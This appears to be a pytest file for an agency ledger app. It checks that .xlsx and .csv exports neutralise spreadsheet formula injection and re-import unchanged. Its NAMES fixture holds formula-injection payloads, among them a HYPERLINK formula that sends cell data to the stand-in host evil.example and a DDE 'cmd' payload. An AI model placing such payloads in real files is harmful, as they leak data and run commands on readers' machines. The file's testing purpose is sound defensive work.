"""No export writes a live formula: a name like ``=HYPERLINK(…)`` comes out as text in every
``.xlsx`` and ``.csv`` (the directories and annexes 3 and 4), and the directory export re-imports
unchanged."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from uuid import UUID

import openpyxl
import pytest
from commands import run

from ledger.adapters.directory_file import OBJECT_COLUMNS, OBJECT_REQUIRED, read_table, write_table
from ledger.adapters.spreadsheet import TRIGGERS, csv_row, runs, unquote_csv_cell
from ledger.demo.county import credit_code
from ledger.services.directory_view import directories
from ledger.services.ledger import Ledger
from projections.annex import ANNEX4_GROUPS, ANNEX4_TITLE, Cell, Form, write_form

pytestmark = pytest.mark.sqlite_only

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
         "-2+3+cmd", "＝1+1", "正常的名称"]


def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)  # formulas as written, not their cached values
    return [str(c.value) for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if c.data_type == "f"]


def _text_cells(path: Path) -> dict[str, bool]:
    """Each text cell that starts like a formula, and whether it has Excel's quote prefix."""
    book = openpyxl.load_workbook(path)
    return {str(c.value): bool(c.quotePrefix) for sheet in book.worksheets
            for row in sheet.iter_rows() for c in row if runs(c.value)}


def test_every_trigger_is_neutralised_in_csv_and_read_back() -> None:
    for trigger in TRIGGERS:
        text = f"{trigger}1+1"
        (cell,) = csv_row([text])
        assert cell == "'" + text and unquote_csv_cell(cell) == text
    assert csv_row(["正常", 12, "'引号"]) == ["正常", 12, "'引号"]
    assert unquote_csv_cell("'引号") == "'引号"


@pytest.fixture
def county(ledger: Ledger) -> UUID:
    county = ledger.app.establish_agency("昌吉州生态环境局昌吉市分局", "652301", "county")
    ledger.app.register_objects(county, [
        {"name": name, "credit_code": credit_code(n), "category": "general", "county": "昌吉市",
         "address": name} for n, name in enumerate(NAMES, start=1)])
    return county


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_directory_export_writes_no_formula_and_reimports_unchanged(
    ledger: Ledger, county: UUID, tmp_path: Path, suffix: str
) -> None:
    rows = [{"name": u.name, "credit_code": u.credit_code, "category": u.category,
             "county": u.county, **u.details} for u in directories(ledger.app, county).objects]
    path = tmp_path / f"units{suffix}"
    write_table(path, OBJECT_COLUMNS, rows)
    if suffix == ".xlsx":
        assert _formula_cells(path) == []
        assert _text_cells(path) == {n: True for n in NAMES if runs(n)}
    else:
        text = path.read_text(encoding="utf-8-sig")
        cells = [c for line in csv.reader(text.splitlines()) for c in line]
        assert not any(runs(c) for c in cells), [c for c in cells if runs(c)]
        assert "'=HYPERLINK" in text
    again = ledger.app.import_objects(county, read_table(path, OBJECT_COLUMNS, OBJECT_REQUIRED))
    assert (again.added, again.unchanged) == (0, len(NAMES))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_annex_export_writes_no_formula(tmp_path: Path, suffix: str) -> None:
    width = sum(len(subs) or 1 for _, subs in ANNEX4_GROUPS)
    rows: list[list[Cell]] = [[n, *([name] * (width - 1))] for n, name in enumerate(NAMES, 1)]
    form = Form(ANNEX4_TITLE, "=昌吉州生态环境局", "2026年第1季度", date(2026, 4, 10), ANNEX4_GROUPS,
                rows, {"填报人": "=cmd"}, "@remark")
    path = tmp_path / f"annex4{suffix}"
    write_form(form, path)
    if suffix == ".xlsx":
        assert _formula_cells(path) == []
        assert set(_text_cells(path)) == {n for n in NAMES if runs(n)}
    else:
        cells = [c for line in csv.reader(path.read_text(encoding="utf-8-sig").splitlines())
                 for c in line]
        assert not any(runs(c) for c in cells) and "'@SUM(1+1)*cmd" in cells


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_demos_own_export_reimports(demo_dir: Path, tmp_path: Path, suffix: str) -> None:
    # a unit put under special supervision after it was registered: its fixed source code is
    # exported with the (1) suffix its category now asks for (it used to be refused on row 63)
    out = demo_dir / f"units{suffix}"
    exported = run(demo_dir, "spotcheck", "entities", "export", "--agency", "652301", "--out",
                   str(out))
    assert exported.returncode == 0, exported.stderr
    again = run(demo_dir, "spotcheck", "entities", "import", str(out), "--agency", "652301")
    assert "0 added, 300 unchanged" in again.stdout, again.stderr
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    run(fresh, "spotcheck", "agency", "add", "--name", "昌吉州生态环境局昌吉市分局", "--code",
        "652301", "--kind", "county")
    imported = run(fresh, "spotcheck", "entities", "import", str(out), "--agency", "652301")
    assert "300 added, 0 unchanged" in imported.stdout, imported.stderr
    back = fresh / f"back{suffix}"
    run(fresh, "spotcheck", "entities", "export", "--agency", "652301", "--out", str(back))
    assert read_table(back, OBJECT_COLUMNS, OBJECT_REQUIRED).rows == read_table(
        out, OBJECT_COLUMNS, OBJECT_REQUIRED).rows


def test_a_control_character_stored_before_the_text_rule_does_not_break_an_xlsx_export(
    tmp_path: Path,
) -> None:
    rows = [{"name": "昌吉\x00热电", "credit_code": credit_code(1), "county": "昌吉市",
             "category": "general"}]
    write_table(tmp_path / "units.xlsx", OBJECT_COLUMNS, rows)
    book = openpyxl.load_workbook(tmp_path / "units.xlsx")
    assert book.worksheets[0]["A2"].value == "昌吉\ufffd热电"
